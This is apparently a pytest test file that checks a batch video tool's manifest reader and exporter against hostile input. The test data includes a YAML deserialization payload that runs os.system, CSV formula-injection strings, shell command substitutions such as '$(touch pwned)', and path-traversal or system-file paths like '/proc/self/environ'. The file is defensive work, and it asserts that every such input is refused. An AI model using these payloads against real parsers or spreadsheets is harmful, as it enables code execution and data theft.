"""Manifests that mean harm: to memory, files and terminals, and to whoever opens an export."""

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from itertools import combinations
from pathlib import Path

import pytest
import yaml
from support import tiny

from batchsora.cli import main
from batchsora.manifest.errors import CellError, ManifestError, RowProblem
from batchsora.manifest.formats import yaml_tree
from batchsora.manifest.formats.csv_reader import open_csv
from batchsora.manifest.formats.yaml_tree import open_yaml
from batchsora.manifest.images.row_images import Images
from batchsora.manifest.raw import RawRow
from batchsora.manifest.read import Manifest, open_manifest
from batchsora.names import safe_name
from batchsora.result_columns import RESULT_NAMES
from batchsora.sandbox.server import SandboxServer
from batchsora.sandbox.world import World
from batchsora.tables import restored, write_table
from jobs.model.spec import JobSpec

PNG = tiny.png(bytes(64))
ROOM = 320 * 1024**2
"""Bytes of address space for a reader, what Python itself takes included."""

READER = """
import resource, sys
from pathlib import Path
from batchsora.manifest.read import open_manifest
from batchsora.manifest.errors import ManifestError
resource.setrlimit(resource.RLIMIT_AS, ({room}, {room}))
try:
    count = sum(1 for _ in open_manifest(Path(sys.argv[1])).rows())
except ManifestError as error:
    print("refused:", error)
else:
    print("rows:", count)
"""


def manifest(folder: Path, text: str | bytes, name: str = "m.csv") -> Manifest:
    path = folder / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return open_manifest(path)


def refusal(folder: Path, text: str | bytes, name: str = "m.csv") -> str:
    with pytest.raises(ManifestError) as caught:
        list(manifest(folder, text, name).rows())
    return str(caught.value)


def read_in_little_room(path: Path, project: Path) -> str:
    """Read a manifest in a process of its own that can't have much memory."""
    command = [sys.executable, "-c", READER.format(room=ROOM), str(path)]
    done = subprocess.run(
        command, cwd=project, capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


LINE = 17 * 1024**2
HUGE = {
    "NULs": (b"prompt\n", "has a NUL"),
    "a line": (b"prompt\n" + b"a" * LINE, "is longer than"),
    "a wide line": (b"prompt\n\xf0\x9f\xaa\x81" + b"a" * LINE, "is longer than"),
    "a header": (b"prompt," + b"d" * LINE, "is longer than"),
    "cells": (b"prompt,notes\nA" + b"," * (LINE // 2) + b"\n", "has more than"),
    "cells under one header": (b"prompt\nA" + b"," * (LINE // 2) + b"\n", "has more than"),
    "header cells": (b"prompt,notes" + b"," * (LINE // 2) + b"\nA\n", "has more than"),
    "empty header cells": (b"prompt" + b"," * (LINE // 2) + b"\nA\n", "has more than"),
    "a row of lines": (b'prompt,notes\nx,"' + b'ab","\n' * (LINE // 6), "has more than"),
    "lines under one header": (
        b'prompt\nx,"' + b'ab","\n' * (LINE // 6),
        "more than 2000000 videos",
    ),
    "an open quote": (b'prompt\n"' + (b"a" * 999 + b"\n") * (LINE // 500), "never closed"),
}


@pytest.mark.parametrize("name", HUGE)
def test_ten_gigabytes_are_refused_in_little_room(name: str, project: Path, tmp_path: Path) -> None:
    """A file beyond all measure is read as far as its first row may go, and no further."""
    start, says = HUGE[name]
    path = tmp_path / "m.csv"
    with path.open("wb") as file:
        file.write(start)
        file.truncate(10 * 1024**3)  # the rest are NULs that take no room on the disk
    said = read_in_little_room(path, project)
    assert said.startswith("refused:")
    assert says in said
    assert len(said) < 1000


def test_a_yaml_of_ten_gigabytes_is_refused_in_little_room(project: Path, tmp_path: Path) -> None:
    """YAML is read whole, so only up to its limit."""
    path = tmp_path / "m.yaml"
    with path.open("wb") as file:
        file.write(b"jobs:\n- A\n")
        file.truncate(10 * 1024**3)
    assert "larger than 64 MB" in read_in_little_room(path, project)


def test_an_honest_row_has_room(project: Path, tmp_path: Path) -> None:
    """The largest image as a data URI, beside a text full of separators, is no attack."""
    picture = "data:image/png;base64,iVBORw0KGgo" + "A" * 13_981_000 + "="
    row = f'"A{"," * 3000}","{picture}","{"a,b;c " * 10_000}"\n'
    (tmp_path / "m.csv").write_text(f"prompt,image,notes\n{row}")
    assert read_in_little_room(tmp_path / "m.csv", project) == "rows: 1\n"


YAMLS = {
    "an object": ("jobs:\n- !!python/object/apply:os.system [touch pwned]\n", "tag"),
    "a module": ("jobs:\n- prompt: !!python/name:os.system x\n", "tag"),
    "a long tag": (f"jobs:\n- !!{'a' * 50_000} x\n", "tag"),
    "a long alias": (f"jobs:\n- *{'a' * 50_000}\n", "no anchor"),
    "a long key": (f"? {'k' * 2_000_000}\n: x\njobs: [A]\n", "means nothing"),
    "a long key twice": (
        f"jobs:\n- {{prompt: A, ? {'k' * 50_000} : 1, ? {'k' * 50_000} : 2}}\n",
        "duplicate",
    ),
    "a long column": (f"jobs:\n- {{prompt: A, ? {'k' * 50_000} : 1}}\n", "is longer than"),
    "a long default": (
        f"jobs: [A]\ndefaults: {{? {'k' * 50_000} : [x, {'x, ' * 10_001}]}}\n",
        "too large",
    ),
    "flow": ("jobs: " + "{a: " * 100_000, "nested too deep"),
    "merges": (
        "jobs:\n- &a {"
        + ", ".join(f"k{i}: v" for i in range(900))
        + ", prompt: x}\n"
        + ("- {<<: [" + ", ".join(["*a"] * 60) + "]}\n") * 80,
        "more than",
    ),
    "a NUL": ('jobs:\n- {prompt: A, title: "a\\0b"}\n', "NUL"),
    "escapes in a key": ('"\\e[2Jjobs": 1\njobs: [A]\n', "means nothing"),
}


@pytest.mark.parametrize("name", YAMLS)
def test_yaml_that_means_harm_is_refused_in_a_line(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing is executed, expanded or repeated to the person at length, nor drives a terminal."""
    monkeypatch.chdir(tmp_path)
    text, says = YAMLS[name]
    said = refusal(tmp_path, text, "m.yaml")
    assert says in said
    assert len(said) < 1000
    assert said.isprintable()
    assert not (tmp_path / "pwned").exists()


def test_both_yaml_parsers_refuse_half_a_character(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where the C parser is missing, the other one lets surrogates through: no table holds them."""
    for parser in (yaml_tree._PARSER, yaml.SafeLoader):
        monkeypatch.setattr(yaml_tree, "_PARSER", parser)  # of this process: no other one reads
        path = tmp_path / "m.yaml"
        path.write_text('jobs:\n- {prompt: A, title: "\\ud83d"}\n')
        with pytest.raises(ManifestError) as refused:
            open_yaml(path)
        assert refused.value.problem.row == 2


@pytest.mark.parametrize("name", ["m.csv", "m.yaml"])
def test_a_thousand_million_variants_are_no_order(name: str, tmp_path: Path) -> None:
    """A count beyond reason is a fault of its row."""
    text = "prompt,count\nA,1000000000\n" if name == "m.csv" else "- {prompt: A, count: 1e9}\n"
    (fault,) = list(manifest(tmp_path, text, name).rows())
    assert isinstance(fault, RowProblem)
    assert fault.column == "count"


@pytest.mark.posix  # a pipe that lies in a folder
@pytest.mark.parametrize("name", ["m.csv", "m.yaml"])
@pytest.mark.parametrize("target", ["/dev/zero", "/dev/stdin", "pipe"])
def test_a_manifest_that_never_ends_is_not_opened(name: str, target: str, tmp_path: Path) -> None:
    """A link to a device, or to a pipe that nobody writes to, blocks nothing."""
    os.mkfifo(tmp_path / "pipe")
    path = tmp_path / name
    path.symlink_to(tmp_path / "pipe" if target == "/dev/stdin" else target)
    with pytest.raises(ManifestError, match="not a regular file"):
        open_manifest(path)


IMAGES = [
    "../secret.png", "a/../../secret.png", "link.png", "out/secret.png", "out/../secret.png",
    "/dev/zero", "/proc/self/environ", "pipe.png", "zero.png", "./pipe.png", "fox\0.png",
    "%2e%2e/secret.png", "..\\secret.png", "~/secret.png", "file:///etc/hostname", "x" * 5000,
]  # fmt: skip


@pytest.mark.posix  # a pipe that lies in a folder
@pytest.mark.parametrize("cell", IMAGES, ids=lambda cell: repr(cell[:20]))
def test_no_image_leaves_the_folder_or_hangs(cell: str, tmp_path: Path) -> None:
    """Traversal, links, devices and pipes: a fault of the row, and nothing of it is sent."""
    folder = tmp_path / "folder"
    folder.mkdir()
    (tmp_path / "secret.png").write_bytes(PNG)
    (folder / "link.png").symlink_to("../secret.png")
    (folder / "out").symlink_to("..")
    (folder / "zero.png").symlink_to("/dev/zero")
    os.mkfifo(folder / "pipe.png")
    with pytest.raises(CellError) as caught:
        Images(folder, allow_outside=False).read(cell)
    assert len(str(caught.value)) < 300


def test_names_that_are_no_text_are_told(tmp_path: Path) -> None:
    """A manifest or an image whose path is no UTF-8 can't be kept: a fault, no crash."""
    strange = Path(os.fsdecode(os.fsencode(tmp_path) + b"/b\xff.csv"))
    strange.write_text("prompt\nA\n")
    with pytest.raises(ManifestError, match="not UTF-8") as caught:
        open_manifest(strange)
    assert json.dumps(dict(caught.value.as_json()), ensure_ascii=False).encode()
    picture = Path(os.fsdecode(os.fsencode(tmp_path) + b"/\xff.png"))
    picture.write_bytes(PNG)
    (tmp_path / "link.png").symlink_to(picture.name)
    with pytest.raises(CellError, match="not UTF-8"):
        Images(tmp_path, allow_outside=False).read("link.png")


def test_what_a_problem_shows_drives_no_terminal(tmp_path: Path) -> None:
    """Escapes in cells, headers and file names are shown as what they are."""
    text = "prompt,duration,dur\x1b[2Jaton\nA,\x1b]0;owned\x07\u202e,x\n"
    found = manifest(tmp_path, text, "m\x1b[2J.csv")
    (fault,) = list(found.rows())
    said = [*map(str, found.warnings), str(fault)]
    # the name of the file is the person's own, and the command line cleans it
    assert all(line.replace(str(found.path), "").isprintable() for line in said)


DANGEROUS = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)', "+1+cmd", "-1+cmd", "@SUM(1)", "\t=1",
    "\r=1", "\n=1", "\uff1d1+1", "\uff0bcmd", "\uff0dcmd", "\uff20SUM(1)", "'=1", "''@x",
]  # fmt: skip
SAFE = ["-5", "+3.5", "1=1", "a@b", "", "'hello'"]


def test_no_export_runs_in_a_spreadsheet(tmp_path: Path) -> None:
    """In CSV no cell or header begins as a formula does; loading takes every mark away again."""
    texts = DANGEROUS + SAFE
    columns = ["=evil", *(f"c{i}" for i in range(len(texts)))]
    row = dict(zip(columns, ["x", *texts], strict=True))
    write_table(tmp_path / "out.csv", columns, [row])
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8-sig") as file:
        header, cells = csv.reader(file)
    for cell in (header[0], *cells[1 : 1 + len(DANGEROUS)]):
        assert cell.startswith("'")
        assert not re.match("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", cell)
    assert cells[1 + len(DANGEROUS) :] == SAFE
    assert [restored(cell) for cell in cells[1:]] == texts


INSIDE = [
    "x;=1+1", "x; =1+1", 'x;"=1+1"', "x;'=1", ";=1", "x\n=1+1", "x\r\n-1+cmd",
    "x\t@SUM(1)", "x;\t=1", "x,=1+1", 'x,"=1', "x|+1", "x;\uff1d1", " =1+1",
    '"=1+1', "x;;=1", "x;=1;=2", "x\n\n=1", "-5;=1",
]  # fmt: skip
SEPARATORS = ",;\t|"


def cells_as_others_see_them(text: str) -> Iterator[str]:
    """Split a table as spreadsheets do: at one sign or several, with quotes heeded or not."""
    for count in range(1, len(SEPARATORS) + 1):
        for signs in combinations(SEPARATORS, count):
            bare = re.compile(f"[{re.escape(''.join(signs))}\r\n]")
            for cell in bare.split(text):
                yield cell.strip(' "')
    for sign in SEPARATORS:
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sign):
            yield from (cell.strip(' "') for cell in row)


@pytest.mark.parametrize("name", ["out.csv", "out.tsv"])
def test_no_export_runs_where_cells_are_separated_otherwise(name: str, tmp_path: Path) -> None:
    """Where ";" separates, "x;=1+1" has a formula; so has "-5,2+cmd" in the first two cells."""
    texts = [*DANGEROUS, *INSIDE]
    columns = ["id", "prompt", *RESULT_NAMES]
    rows = [dict(zip(columns, ["-5", "2+cmd"], strict=False))]
    rows += [{"id": f"i{n}", "prompt": text, "error": text} for n, text in enumerate(texts)]
    rows += [{"id": text, "prompt": text} for text in texts]
    write_table(tmp_path / name, columns, rows)
    text = (tmp_path / name).read_text(encoding="utf-8-sig")
    begins = re.compile("[=+\\-@\uff1d\uff0b\uff0d\uff20]")
    found = [cell for cell in cells_as_others_see_them(text) if begins.match(cell)]
    assert found == []
    back = list(open_csv(tmp_path / name).rows())
    assert [row.cells[:2] for row in back if isinstance(row, RawRow)] == [
        [row["id"], row["prompt"]] for row in rows
    ]


def test_a_persons_own_apostrophes_stay(tmp_path: Path) -> None:
    """In a table that is no export of ours only the mark in front is one."""
    said = "the sign says;'-50% off'\n'@home'"
    (tmp_path / "m.csv").write_text(f'prompt\n"{said}"\n\'=A\n')
    rows = [row for row in open_csv(tmp_path / "m.csv").rows() if isinstance(row, RawRow)]
    assert [row.cells for row in rows] == [[said], ["=A"]]


@pytest.mark.parametrize("suffix", [".json", ".jsonl"])
def test_json_keeps_every_cell_as_it_is(suffix: str, tmp_path: Path) -> None:
    """Programs read JSON: nothing is marked there, and no cell breaks out of its line."""
    row = {f"c{i}": text for i, text in enumerate(DANGEROUS + SAFE)}
    write_table(tmp_path / f"out{suffix}", list(row), [row])
    text = (tmp_path / f"out{suffix}").read_text(encoding="utf-8")
    found = json.loads(text) if suffix == ".json" else [json.loads(text)]
    assert found == [row]
    assert not re.search("[\x00-\x09\x0b-\x1f]", text)


KEYS = [
    "../../etc/passwd", "/etc/passwd", "..", ".", "...", ".bashrc", "CON", "con.mp4", "NUL", "COM1",
    "LPT9.txt", "a/b", "a\\b", "a:b", "a b", "x" * 200, "\U0001fa81" * 200, "\u202egpj.exe",
    "$(touch pwned)", "`id`", "a;b", "a'b", "a\u2044b", "\uff0e\uff0e\uff0fetc", "videos", "%2e%2e",
]  # fmt: skip


def test_every_key_is_one_file_in_its_folder(tmp_path: Path) -> None:
    """As an id and as a batch's name: below the folder, of its own, and short enough."""
    found = set()
    for key in KEYS:
        name = safe_name(key)
        path = tmp_path / safe_name("../" + key) / f"{name}.mp4.part.json.new"
        assert path.resolve().parent.parent == tmp_path.resolve()
        path.parent.mkdir()
        path.touch()
        found.add(name.casefold())
    assert len(found) == len(KEYS)


def test_ids_that_no_command_could_name_are_refused(tmp_path: Path) -> None:
    """Line breaks, controls and options in front are faults; the rest are ids."""
    ids = ["a\nb", "a\x1bb", "-rf", "--force", "#x", "y" * 201]
    text = "id,prompt\n" + "".join(f'"{key}",A\n' for key in ids + KEYS)
    rows = list(manifest(tmp_path, text).rows())
    assert all(isinstance(row, RowProblem) for row in rows[: len(ids)])
    assert [row.key for row in rows[len(ids) :] if isinstance(row, JobSpec)] == KEYS


def test_a_hostile_manifest_runs_harmlessly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """From load to export: every file in the batch's folder, nothing on screen but text."""
    web_context = tmp_path / "web_context"
    web_context.mkdir()
    monkeypatch.chdir(web_context)
    monkeypatch.setenv("RUNBLOB_API_KEY", "any")
    keys = KEYS[::4]
    jobs = [
        {"id": key, "prompt": f"a \u202ekite {number}", "note\x1b[2J": "=1+1\x9b31m\x1b]0;x\x07"}
        for number, key in enumerate(keys)
    ]
    text = yaml.safe_dump({"batch": "../../evil\u202e", "jobs": jobs})
    (web_context / "m.yaml").write_text(text)
    said = ""
    with SandboxServer(World(time_scale=20_000.0)) as api:
        monkeypatch.setenv("BATCHSORA_BASE_URL", api.url)
        quick = ("--poll-interval", "0.05", "--rate", "0")
        commands = (
            ("plan", "m.yaml"),
            ("-v", "run", "m.yaml", "--yes", *quick),
            ("status",),
            ("jobs", "-v"),
            ("export", "-o", "out.csv"),
            ("plan", "out.csv"),
        )
        for arguments in commands:
            with pytest.raises(SystemExit) as ended:
                main(arguments)
            shown = capfd.readouterr()
            said += shown.out + shown.err
            assert ended.value.code in (0, None), said
    assert [line for line in said.split("\n") if not line.replace("\t", "").isprintable()] == []
    videos = sorted(path.relative_to(web_context) for path in tmp_path.rglob("*.mp4"))
    assert len(videos) == len(keys)
    assert {path.parts[0] for path in videos} == {"videos"}
    assert {len(path.parts) for path in videos} == {3}
    assert [path.name for path in tmp_path.iterdir()] == ["web_context"]
    with (web_context / "out.csv").open(newline="", encoding="utf-8-sig") as file:
        results = list(csv.DictReader(file))
    assert {row["note\x1b[2J"] for row in results} == {"'=1+1\x9b31m\x1b]0;x\x07"}
